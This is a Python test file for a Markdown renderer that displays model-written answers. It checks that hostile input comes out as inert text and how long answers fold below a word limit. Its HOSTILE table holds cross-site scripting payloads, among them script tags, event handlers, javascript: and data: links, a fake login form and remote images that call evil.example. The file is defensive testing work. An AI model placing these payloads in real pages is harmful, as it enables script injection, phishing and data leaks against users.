"""What a model wrote is laid out and cannot act: hostile Markdown, long answers, the fold."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ftportal.pages.code import LANGUAGES, code_html
from ftportal.pages.markdown import FOLD_WORDS, LAID_OUT_MAX_CHARACTERS, lay_out, written
from ftportal.pages.words import count_words, cut_at_words
from tests.work import grows_evenly

HARMLESS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li"),
    *("table", "thead", "tbody", "tr", "th", "td", "div", "span"),
}
"""Tags that neither run, nor load, nor lead anywhere."""


class Reader(HTMLParser):
    """What a browser would make of a piece of HTML: its tags, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data

    def is_harmless(self) -> bool:
        names = {name for name, _ in self.attributes}
        return self.tags <= HARMLESS and names <= {"class", "start"}


def read(text: str) -> Reader:
    laid = lay_out(text)
    return Reader(laid.head + laid.rest)


HOSTILE = {
    "script": ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    "script inside a line": ("so <script src=//evil.example></script>", "<script src="),
    "handler": ('<img src=x onerror="alert(1)">', 'onerror="alert(1)"'),
    "svg": ("<svg/onload=alert(1)>", "<svg/onload=alert(1)>"),
    "iframe": ("<iframe srcdoc='<script>x</script>'></iframe>", "srcdoc"),
    "style": ("<style>body{background:url(//evil.example)}</style>", "background:url"),
    "form": ("<form action=//evil.example><button>Log in</button></form>", "<button>Log in"),
    "comment": ("<!-- <b>hidden</b> -->", "<!-- <b>hidden</b> -->"),
    "javascript link": ("[here](javascript:alert(1))", "here (javascript:alert(1))"),
    "spaced javascript": ("[here](<java\tscript:alert(1)>)", "here (java%09script:alert(1))"),
    "data link": ("[here](data:text/html;base64,PHNjcmlwdD4=)", "(data:text/html;base64,PHNjcmlwd"),
    "vbscript link": ("[here](vbscript:msgbox)", "here (vbscript:msgbox)"),
    "autolink": ("<https://evil.example/?q=1>", "https://evil.example/?q=1"),
    "misleading link": (
        "[https://bank.example](https://evil.example)",
        "https://bank.example (https://evil.example)",
    ),
    "link by reference": ("[here][1]\n\n[1]: javascript:alert(1)", "here (javascript:alert(1))"),
    "remote image": (
        '![a cat](https://evil.example/x.png?leak=1 "so cute")',
        "[image: a cat] (https://evil.example/x.png?leak=1, “so cute”)",
    ),
    "image in a link": (
        "[![a](//evil.example/a.png)](//evil.example)",
        "[image: a] (//evil.example/a.png) (//evil.example)",
    ),
    "image by reference": ("![a][1]\n\n[1]: //evil.example/a.png", "(//evil.example/a.png)"),
    "language of a fence": (
        '```"><script>alert(1)</script>\nx\n```',
        '"><script>alert(1)</script>',
    ),
    "code": ("```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
    "entity": ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    "heading": ("# <b onclick=x>big</b>", "<b onclick=x>big</b>"),
    "table": ("|<img src=x>|b|\n|:-:|-:|\n|1|[x](javascript:1)|", "x (javascript:1)"),
    "null byte": ("a\x00<script>", "<script>"),
}


@pytest.mark.parametrize(("text", "shown"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_answers_are_text(text: str, shown: str) -> None:
    made = read(text)
    assert made.is_harmless(), (made.tags, made.attributes)
    assert shown in made.text
    assert Reader(written(text).head).tags == set()


PIECES = [
    *("<", ">", "script", "[a]", "(b)", "!", "`", "```", "\n", "\n\n", "- ", "> ", "# ", "|", "*"),
    *("_", "~~", "&lt;", "&#", ";", "javascript:", "//e.example", "\\", " ", "1. ", "    ", '"'),
    *("\r", "\r\n", "\x0c", "\u2028"),
    *("onclick=", "style=", "\x00", "\u202e", "字", "é", "a", "[1]: ", "--"),
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join), st.sampled_from([1, 60]))
def test_whatever_is_written_stays_harmless(text: str, times: int) -> None:
    assert read(text * times).is_harmless()


def test_markdown_is_laid_out() -> None:
    text = (
        "# Title\n\nSome *soft* and **hard** words.\n\n"
        "1. one\n2. two\n\n- a\n- b\n\n> said\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "```python\ndef f():\n    return 1  # one\n```\n"
    )
    made = read(text)
    assert {"em", "strong", "ol", "ul", "blockquote", "table", "pre"} <= made.tags
    classes = {value for name, value in made.attributes if name == "class"}
    assert {"prose-heading prose-h1", "align-left", "align-right", "hl-k", "hl-c1"} <= classes
    assert "    return 1  # one" in made.text
    assert not made.tags & {"h1", "h2", "h3"}  # the page's outline is its own


def test_what_is_nested_too_deeply_is_shown_as_written() -> None:
    for text in (
        "> " * 40 + "deep",
        "- " * 40 + "deep",
        "".join(f"{'  ' * n}- a\n" for n in range(40)),
    ):
        laid = lay_out(text)
        assert "nested too deeply" in laid.as_written
        assert Reader(laid.head + laid.rest).text == text


@pytest.mark.parametrize("piece", ["word ", "a", "# a\n\n", "[a]("])
def test_a_megabyte_is_shown_as_written(piece: str) -> None:
    text = piece * (1_000_000 // len(piece))
    assert grows_evenly(lay_out, text)
    laid = lay_out(text)
    assert "too long" in laid.as_written
    assert Reader(laid.head + laid.rest).text == text
    assert len(laid.head) < 10_000


SLOW_PIECES = [
    *("*a **b ", "[", "[a](", "[[a](b)", "![", "`a``", "> > > a\n", "- a\n", "1. a\n", "# a\n"),
    *("|a|b|\n|-|-|\n", "a\n=\n", "<http://", "_a_", "*_`[<&\\", "~~a~~ ", "[a]: b\n"),
    "```js\na.\n```\n",
]


@pytest.mark.parametrize("piece", SLOW_PIECES)
def test_twice_the_text_is_twice_the_work(piece: str) -> None:
    text = (piece * LAID_OUT_MAX_CHARACTERS)[:LAID_OUT_MAX_CHARACTERS]
    assert lay_out(text).head
    assert grows_evenly(lay_out, text)


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_no_language_gets_lost_in_hostile_code(language: str) -> None:
    for piece in (
        "a.",
        "//",
        "/*\n",
        "a\n",
        "<<A\n",
        "\n",
        "&",
        "(",
        '"',
        "a b ",
        "{%",
        "!",
        "'''\n",
    ):
        text = (piece * 10_000)[:10_000]
        assert grows_evenly(lambda code: code_html(code, language), text), piece


# --- the fold -----------------------------------------------------------------------------------


def paragraphs(count: int, words: int = 30) -> str:
    return "\n\n".join(
        " ".join(f"w{number}x{word}" for word in range(words)) for number in range(count)
    )


def test_short_answers_have_no_fold() -> None:
    laid = lay_out(paragraphs(6))
    assert laid.rest == ""
    assert laid.rest_words == 0


def test_a_long_answer_folds_between_blocks() -> None:
    laid = lay_out(paragraphs(20))
    above, below = Reader(laid.head).text, Reader(laid.rest).text
    assert count_words(above) == FOLD_WORDS
    assert laid.rest_words == count_words(below) == 600 - FOLD_WORDS
    assert laid.more == "420 more words"
    assert (above + below).split() == paragraphs(20).split()


def test_a_list_folds_between_its_items_and_goes_on_counting() -> None:
    items = [
        f"{number}. " + " ".join(f"i{number}x{n}" for n in range(20)) for number in range(3, 30)
    ]
    laid = lay_out("Some words before.\n\n" + "\n".join(items))
    above, below = Reader(laid.head), Reader(laid.rest)
    listed = above.text.count("x0")
    assert 5 < listed < 10
    assert ("start", "3") in above.attributes
    assert ("start", str(3 + listed)) in below.attributes
    assert laid.rest_words > 300


def test_long_code_folds_between_its_lines() -> None:
    lines = [f"value_{number} = {number} + 1" for number in range(200)]
    laid = lay_out("Look:\n\n```python\n" + "\n".join(lines) + "\n```\n\nThat is all.")
    above, below = Reader(laid.head), Reader(laid.rest)
    assert "code" in above.tags
    assert "code" in below.tags
    shown = re.findall(r"value_\d+ = \d+ \+ 1", above.text + below.text)
    assert shown == lines
    assert "That is all." in below.text
    assert 30 < above.text.count("value_") < 50


BLOCKS = [
    *("- one two three four\n", "1. five six\n", "seven eight\n", "\n", "# nine\n", "> ten\n"),
    *("```\neleven\ntwelve\n```\n", "    thirteen\n", "| a | b |\n|---|---|\n| 1 | 2 |\n\n"),
]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.sampled_from(BLOCKS), min_size=100, max_size=250).map("".join),
    st.sampled_from(["\n", "\r\n", "\r"]),
)
def test_a_fold_hides_nothing_for_good(text: str, line_end: str) -> None:
    text = text.replace("\n", line_end)
    laid = lay_out(text)
    unfolded = [word for word in Reader(laid.head + laid.rest).text.split() if word.isalnum()]
    source = [word.strip("|#>-") for word in text.replace("```", "").split()]
    assert unfolded == [word for word in source if word.isalnum()]


def test_words_are_counted_in_scripts_without_blanks_too() -> None:
    assert count_words("one two, three") == 3
    assert count_words("今日は") == 3
    assert cut_at_words("one two three", 2) == ("one two", " three")
    head, rest = cut_at_words("a" * 10_000, 10)
    assert head + rest == "a" * 10_000
    assert len(head) == 120
    assert written("a" * 10_000).more.endswith("more characters")
